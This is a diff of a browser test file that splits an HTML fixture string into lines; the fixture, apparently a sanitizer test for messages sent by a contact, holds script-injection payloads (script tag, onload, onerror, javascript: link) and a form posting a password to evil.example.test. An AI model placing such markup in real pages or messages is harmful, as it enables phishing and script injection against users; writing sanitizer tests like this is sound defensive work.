@@ -163,7 +163,14 @@ test.describe('the thread', () => {
     }).key
     const stored = blobUrl(model, key)
     const remote = 'https://images.example.test/offer.png'
-    const html = `<html><head><script>parent.document.title='owned'</script></head><body onload="parent.document.title='owned'"><p>Our spring offer</p><img src="${stored}" width="120" height="60" alt="photo"><img src="${remote}" width="120" height="60" alt="offer" onerror="parent.document.title='owned'"><a href="javascript:parent.document.title='owned'">bad</a> <a href="https://acme.test/offer">good</a><form action="https://evil.example.test"><input name="password"><button>Go</button></form><iframe src="https://evil.example.test"></iframe></body></html>`
+    const html = [
+      `<html><head><script>parent.document.title='owned'</script></head><body onload="parent.document.title='owned'">`,
+      `<p>Our spring offer</p><img src="${stored}" width="120" height="60" alt="photo">`,
+      `<img src="${remote}" width="120" height="60" alt="offer" onerror="parent.document.title='owned'">`,
+      `<a href="javascript:parent.document.title='owned'">bad</a> <a href="https://acme.test/offer">good</a>`,
+      `<form action="https://evil.example.test"><input name="password"><button>Go</button></form>`,
+      `<iframe src="https://evil.example.test"></iframe></body></html>`,
+    ].join('')
     const asked = (): number => demo.rest.log.filter(({ path }) => path.includes(key)).length
     sendAsContact(model, conversation, {
       content: 'Our spring offer',
